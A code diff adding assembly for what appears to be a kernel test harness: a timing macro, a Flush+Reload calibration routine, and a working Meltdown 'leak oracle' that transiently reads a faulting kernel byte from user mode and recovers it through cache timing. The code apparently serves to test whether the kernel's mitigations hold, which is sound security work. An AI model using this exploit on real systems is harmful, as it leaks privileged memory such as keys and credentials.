@@ -353,3 +353,128 @@ short:
 fail:
 	EXIT_DI
 	USER_END
+
+// TIME_LOAD(addr, flags, plain0, stamp0, plain1, stamp1) times a load of
+// the byte at addr and leaves the TSC ticks in DX; it uses AX, CX and
+// R11. Each end of the interval is RDTSCP; LFENCE: RDTSCP waits until
+// every earlier instruction has executed and every earlier load is
+// globally visible, and the LFENCE keeps later instructions from starting
+// before it (SDM Vol. 2B, RDTSCP). Where the CPU has no RDTSCP (bit 32 of
+// flags set) each end is LFENCE; RDTSC; LFENCE instead (SDM Vol. 2B,
+// RDTSC). The labels are the macro's branches, distinct per use.
+#define TIME_LOAD(addr, flags, plain0, stamp0, plain1, stamp1) \
+	TSC_STAMP(flags, plain0, stamp0); \
+	SHLQ	$32, DX; \
+	ORQ	AX, DX; \
+	MOVQ	DX, R11; \
+	MOVB	addr, AX; \
+	TSC_STAMP(flags, plain1, stamp1); \
+	SHLQ	$32, DX; \
+	ORQ	AX, DX; \
+	SUBQ	R11, DX
+#define TSC_STAMP(flags, plain, stamp) \
+	BTQ	$32, flags; \
+	JCS	plain; \
+	RDTSCP; \
+	JMP	stamp; \
+plain: \
+	LFENCE; \
+	RDTSC; \
+stamp: \
+	LFENCE
+
+// userOracleCal is the leak oracle's calibration: RDI = a line of its own
+// data, RSI = N samples, RDX = where to store them (N hit times, then N
+// miss times, quadwords), R10 = 1<<32 where the CPU has no RDTSCP, else
+// 0. Each sample loads the line and times a second load (a hit), then
+// flushes it (CLFLUSH, MFENCE) and times a load (a miss). It exits 0.
+TEXT ·userOracleCal(SB),NOSPLIT|NOFRAME,$0
+	MOVQ	DI, BX
+	MOVQ	SI, R12
+	MOVQ	DX, R13
+	LEAQ	(DX)(SI*8), R14
+	MOVQ	R10, R15
+	MOVB	(BX), AX
+sample:
+	MOVB	(BX), AX
+	MFENCE
+	TIME_LOAD((BX), R15, plain0, stamp0, plain1, stamp1)
+	MOVQ	DX, (R13)
+	CLFLUSH	(BX)
+	MFENCE
+	TIME_LOAD((BX), R15, plain2, stamp2, plain3, stamp3)
+	MOVQ	DX, (R14)
+	ADDQ	$8, R13
+	ADDQ	$8, R14
+	DECQ	R12
+	JNE	sample
+	EXIT(0)
+	USER_END
+
+// userOracle is the leak oracle's Meltdown attempt on one byte (Lipp et
+// al., "Meltdown", USENIX Security 2018, section 5.1, with Flush+Reload):
+// RDI = the byte's address, RSI = the probe array (OracleLines lines
+// OracleStride bytes apart), RDX = attempts, R10 = OracleLines hit
+// counters (quadwords), R8 = the threshold (a load that takes at most
+// that many TSC ticks is a hit), R9 = the touch call's number (0: none)
+// in its low 32 bits, and bit 32 set where the CPU has no RDTSCP. Each
+// attempt flushes the probe array, makes the touch call (which brings the
+// secret's line into the cache), reads the byte from ring 3, which
+// faults, and, transiently, loads the probe line the byte selects (a
+// transient 0, which a suppressed read gives, is read again: the paper's
+// retry); then it times a load of every line, in an order that defeats
+// the prefetcher (line 167*k+13 mod 256 at step k), and counts the hits.
+// The run must recover page faults (StartRecovering) with RecoverRIP at
+// the program's entry: the fault re-enters it with every register as it
+// was and R15 = 1 (toUser starts it with R15 = 0). It exits 0 after the
+// attempts.
+TEXT ·userOracle(SB),NOSPLIT|NOFRAME,$0
+	TESTQ	R15, R15
+	JNE	reload
+	MOVQ	DI, BX			// the byte
+	MOVQ	SI, R12			// the probe array
+	MOVQ	DX, R13			// attempts left
+	MOVQ	R10, R14		// the counters (R10: the line step from here on)
+attempt:
+	XORL	CX, CX
+flush:
+	MOVQ	CX, AX
+	SHLQ	$const_OracleStrideShift, AX
+	CLFLUSH	(R12)(AX*1)
+	INCQ	CX
+	CMPQ	CX, $const_OracleLines
+	JNE	flush
+	MFENCE
+	MOVL	R9, AX
+	TESTL	AX, AX
+	JEQ	read
+	SYSCALL
+read:
+	MOVL	$1, R15
+retry:
+	MOVBQZX	(BX), AX		// faults: the rest is transient
+	SHLQ	$const_OracleStrideShift, AX
+	JEQ	retry
+	MOVB	(R12)(AX*1), AX
+reload:
+	XORL	R10, R10
+line:
+	MOVQ	R10, SI
+	IMULQ	$167, SI
+	ADDQ	$13, SI
+	ANDQ	$(const_OracleLines-1), SI
+	MOVQ	SI, DI
+	SHLQ	$const_OracleStrideShift, DI
+	ADDQ	R12, DI
+	TIME_LOAD((DI), R9, plain0, stamp0, plain1, stamp1)
+	CMPQ	DX, R8
+	JHI	miss
+	INCQ	(R14)(SI*8)
+miss:
+	INCQ	R10
+	CMPQ	R10, $const_OracleLines
+	JNE	line
+	DECQ	R13
+	JNE	attempt
+	EXIT(0)
+	USER_END
